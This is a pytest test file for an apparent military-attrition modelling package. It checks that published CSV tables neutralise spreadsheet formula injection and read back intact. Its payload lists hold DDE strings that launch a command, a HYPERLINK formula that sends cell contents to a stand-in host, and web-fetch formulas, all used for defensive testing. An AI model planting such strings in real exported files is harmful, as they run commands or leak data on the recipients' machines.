"""Published tables: no spreadsheet runs what a source said, it reads back as it was, and numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import math
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import attrition as at
from attrition.cells import csv_of, inert, plain
from attrition.coding import COLUMNS, DATES, NUMBERS
from attrition.priors import Priors
from attrition.publishing import write_results
from drawings import CAMPAIGN
from persons import force, replaced
from tables import read, row

pytestmark = pytest.mark.filterwarnings("ignore:Glyph")

GATE = {"passed": True, "max_rhat": 1.0, "min_ess": 1000.0, "divergences": 0, "target_accept": 0.9, "escalated": ""}
TABLES = (
    "claims_used",
    "claims_set_aside",
    "priors",
    "summary",
    "cumulative_loss",
    "daily_rate",
    "strength",
    "depletion_date",
)
SIGNS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u207a\u207b\u207c\u2212\u2013\u2014"
PAYLOADS = (
    "=1+1", "+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://e.org?"&A1,"see")', "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML("http://e.org","//a")', '=WEBSERVICE("http://e.org")', "==1+1", "'=1+1", "''=1+1", '"=1+1', '""=1+1""',
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\ufe661+1", "\u22121+1", "\u20131", "\u207a1",
    "a;=1+1", 'a;"=1+1', "a; '=1+1", "a;;-1", "-5", "+380 44", "@handle", "- a remark", "=", "-", "'", "'tis", "a=1", "0",
    "1e5", "plain",
)  # fmt: skip
IN_NOTES = (
    "\t=1+1", "\r=1+1", "\n=1+1", "a\n=1+1", "a\r\n=1+1", "a\r=1+1", "a\t=1+1", "a\n\n'-1", "\u200b=1+1", "\u202e=1+1",
    "\ufeff=1+1", "two\nlines",
)  # fmt: skip


def hostile_claims():
    """Every payload in every text field that takes it; ranges, shares and rows that are set aside among them."""
    rows = []
    for number, text in enumerate((*PAYLOADS, *IN_NOTES)):
        name = text if text in PAYLOADS else f"n{number}"
        fields = {
            "contingent": "=contingent",
            "source": name,
            "source_group": name,
            "briefing": name,
            "x_own": text,
            "x_;=1": text,
        }
        for role in ("evidence", "repeat"):
            rows.append(row(**fields | {
                "claim_id": f"{name}{role}{number}", "role": role, "note": text, "value": str(2000 + number),
                "derived_from": name if role == "repeat" else "", "url": f"https://e.org/{number};=1+1",
            }))  # fmt: skip
    return read(*rows)


@pytest.fixture(scope="module")
def fit():
    campaign = dataclasses.replace(CAMPAIGN, title="=title")
    made = force(claims=hostile_claims(), campaign=campaign, chains=2, draws=20)
    errors = np.random.default_rng(1).uniform(0.1, 0.2, made.array("contingent_size").shape)
    made = replaced(made, claim_error=errors, killed_share=errors)
    rows = tuple(dataclasses.replace(one, why=PAYLOADS[n % len(PAYLOADS)]) for n, one in enumerate(made.priors.rows))
    return dataclasses.replace(made, gate=GATE, priors=Priors("=label", rows))


@pytest.fixture(scope="module")
def folder(fit, tmp_path_factory):
    folder = tmp_path_factory.mktemp("published")
    write_results(fit, folder)
    return folder


def cells(path, delimiter=","):
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter, strict=delimiter == ","))


def is_number(text):
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def formulas(text):
    """Whether a spreadsheet may take a cell for a formula, as one that is careless about what stands before the sign."""
    bare = text.lstrip(' \u00a0\u200b\u202e\ufeff"\t\r\n')
    return text[:1] in ("\t", "\r", "\n") or (bare[:1] in tuple(SIGNS) and not is_number(text))


def test_every_table_is_there(folder):
    assert {path.stem for path in folder.glob("*.csv")} == set(TABLES)


@pytest.mark.parametrize("name", TABLES)
def test_no_cell_is_a_formula(folder, name):
    for line in cells(folder / f"{name}.csv"):
        assert not [cell for cell in line if formulas(cell)]


@pytest.mark.parametrize("delimiter", [";", "\t"])
@pytest.mark.parametrize("name", ["claims_used", "claims_set_aside", "priors", "summary"])
def test_no_cell_is_a_formula_where_another_sign_separates(folder, name, delimiter):
    """As a spreadsheet opens it whose list separator is not the comma."""
    for line in cells(folder / f"{name}.csv", delimiter):
        assert not [cell for cell in line if formulas(cell)]


def test_claims_read_back_as_they_were(fit, folder, tmp_path):
    seen = {"claims_used": fit.seen.claims, "claims_set_aside": fit.seen.set_aside}
    total = 0
    for name, table in seen.items():
        lines = cells(folder / f"{name}.csv")
        columns = [plain(cell) for cell in lines[0]]
        own = [place for place, column in enumerate(columns) if column in COLUMNS or column.startswith("x_")]
        path = tmp_path / f"{name}.csv"
        with path.open("w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(
                [[(columns if line is lines[0] else line)[place] for place in own] for line in lines]
            )
        again = at.read_claims(path).table
        assert again["claim_id"].tolist() == table["claim_id"].tolist()
        for column in (columns[place] for place in own):
            assert again[column].tolist() == table[column].where(table[column].notna(), None).tolist(), (name, column)
        total += len(again)
    assert total == len(fit.claims) == 2 * (len(PAYLOADS) + len(IN_NOTES))
    assert {text.strip() for text in (*PAYLOADS, *IN_NOTES)} == set(fit.claims.table["note"])


def test_priors_and_reasons_read_back_as_they_were(fit, folder):
    lines = cells(folder / "priors.csv")
    table = pd.DataFrame([[plain(cell) for cell in line] for line in lines[1:]], columns=lines[0])
    assert table["why"].tolist() == [prior.why for prior in fit.priors.rows]
    assert table["name"].tolist() == [prior.name for prior in fit.priors.rows]


def test_numbers_and_days_stay_as_they_are(fit, folder):
    read_by = pd.read_csv(folder / "claims_used.csv")
    assert read_by["value"].dtype.kind == "f"
    assert read_by["value"].tolist() == fit.seen.claims["value"].tolist()
    columns, *lines = cells(folder / "claims_used.csv")
    for column, values in zip(columns, zip(*lines, strict=True), strict=True):
        assert column not in (*NUMBERS, *DATES) or not [value for value in values if "'" in value]
    for name in ("cumulative_loss", "daily_rate", "strength"):
        table = pd.read_csv(folder / f"{name}.csv", parse_dates=["date"])
        assert all(kind.kind in "fM" for kind in table.dtypes)


def test_negative_numbers_of_every_kind_stay_numbers():
    table = pd.DataFrame({"a": [-1.5, 2.0], "b": [-3, 4], "c": pd.Series([-1.0, None], dtype=object), "d": ["-1", "x"]})
    assert csv_of(table) == "a,b,c,d\n-1.5,-3,-1.0,'-1\n2.0,4,,x\n"
    assert csv_of(table[["a", "b", "c"]]) == table[["a", "b", "c"]].to_csv(index=False, lineterminator="\n")


def test_a_saved_fit_keeps_its_texts(fit, tmp_path):
    again = at.load(fit.save(tmp_path / "fit.nc"))
    assert again.claims.digest == fit.claims.digest
    assert [prior.why for prior in again.priors.rows] == [prior.why for prior in fit.priors.rows]


@pytest.mark.parametrize("text", [*PAYLOADS, *IN_NOTES, *SIGNS])
def test_a_text_is_inert_and_plain_again(text):
    assert plain(inert(text)) == text
    assert not formulas(inert(text))


@given(st.text(st.sampled_from("'\"=+-@;,\t\r\n a1\uff1d\u2212\u200b\u202e\\|"), max_size=9) | st.text(max_size=30))
def test_any_text_is_inert_and_plain_again(text):
    safe = inert(text)
    assert plain(safe) == text
    assert not formulas(safe) or is_number(text)
    assert not [piece for piece in re.split(r"[;\t\r\n]", safe)[1:] if formulas(piece)]
    assert inert(safe) != safe or safe == text


def test_ordinary_text_is_left_alone():
    for text in (
        "",
        "Kursk",
        "1,100 killed - of 11,000",
        "'tis",
        "a=b",
        "12 - 15",
        "e.g. =1",
        "x@example.org",
        "a; b",
        "5",
    ):
        assert inert(text) == plain(text) == text


def test_long_text_takes_no_time():
    for text in ("'" * 10**6, ";\n" * 10**6, '"' * 10**6 + "x", " " * 10**6 + "=", ";=" * 10**5):
        assert plain(inert(text)) == text
